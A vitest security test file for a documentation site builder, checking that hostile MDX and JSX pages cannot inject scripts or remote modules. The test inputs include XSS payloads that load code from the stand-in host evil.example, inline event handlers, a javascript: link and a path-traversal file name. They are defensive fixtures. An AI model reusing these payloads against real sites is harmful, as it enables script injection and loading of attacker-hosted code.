import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runDocs } from '../helpers/cli.ts';
import { writeSite } from '../helpers/site.ts';

async function build(files: Record<string, string>) {
  const dir = await writeSite({
    'docs.json': JSON.stringify({ name: 'Hostile', navigation: { pages: ['index'] } }),
    ...files,
  });
  const out = join(dir, 'dist');
  const result = await runDocs(['build', dir, '--out', out]);
  return { result, out, html: result.code === 0 ? await readFile(join(out, 'index.html'), 'utf8') : '' };
}

const page = (body: string) => `---\ntitle: Hostile\ndescription: A hostile page.\n---\n\n${body}\n`;

describe('React components from a hostile repository', () => {
  it('cannot make the islands runtime load a module from elsewhere by writing <dw-island> itself', async () => {
    const { result, html } = await build({
      'index.mdx': page(
        '<dw-island data-module="https://evil.example/x.js" data-export="default">text</dw-island>\n\n<div dangerouslySetInnerHTML={{ __html: \'<dw-island data-module="//evil.example/y.js"></dw-island>\' }} />',
      ),
    });
    expect(result.code, result.stderr).toBe(0);
    expect(html).not.toContain('evil.example');
    expect(html).not.toContain('<dw-island');
    expect(html).not.toContain('islands/runtime.js');
    expect(result.stderr).toContain('warning page/unsafe-html');
  });

  it('cannot create <script> or event handlers through React.createElement, preact h or cloneElement', async () => {
    const { result, html } = await build({
      'snippets/evil.jsx': [
        "import React from 'react';",
        "import { h, cloneElement } from 'preact';",
        'export const Evil = () => (',
        '  <div>',
        "    {React.createElement('script', null, 'window.pwned1 = 1')}",
        "    {h('script', { src: 'https://evil.example/a.js' })}",
        "    {cloneElement(<a href=\"/x\">link</a>, { onClick: 'window.pwned2 = 1', href: 'javascript:alert(1)' })}",
        "    {React.createElement('img', { src: 'x', onError: 'window.pwned3 = 1' })}",
        '  </div>',
        ');',
      ].join('\n'),
      'index.mdx': page("import { Evil } from '/snippets/evil.jsx';\n\n<Evil />"),
    });
    expect(result.code, result.stderr).toBe(0);
    const content = html.slice(html.indexOf('dw-content'), html.indexOf('dw-feedback'));
    expect(content).not.toMatch(/<script|pwned|javascript:|onclick|onerror/i);
    expect(content).toContain('>link</a>');
  });

  it('writes island modules only inside the output folder, named by content whatever the file is called', async () => {
    const { result, out } = await build({
      'snippets/..%2f..%2fescape.jsx':
        'export const Up = () => { const [n, set] = useState(0); return <button onClick={() => set(n + 1)}>{n}</button>; };',
      'index.mdx': page("import { Up } from '/snippets/..%2f..%2fescape.jsx';\n\n<Up />"),
    });
    expect(result.code, result.stderr).toBe(0);
    const modules = await readdir(join(out, '_docwright/islands'));
    expect(modules.filter((name) => name !== 'runtime.js')).toEqual([
      expect.stringMatching(/^___2f___2fescape-[0-9a-f]{10}\.js$/),
    ]);
  });
});
